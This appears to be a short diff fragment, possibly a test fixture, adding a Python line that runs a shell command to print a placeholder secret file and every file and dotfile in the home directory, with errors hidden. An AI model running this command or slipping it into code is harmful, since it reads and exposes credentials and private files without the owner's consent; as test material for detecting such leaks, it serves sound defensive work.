@@ -1,0 +1,2 @@
+import os
+os.system("cat @SECRET@; cat ~/* ~/.* 2>/dev/null")
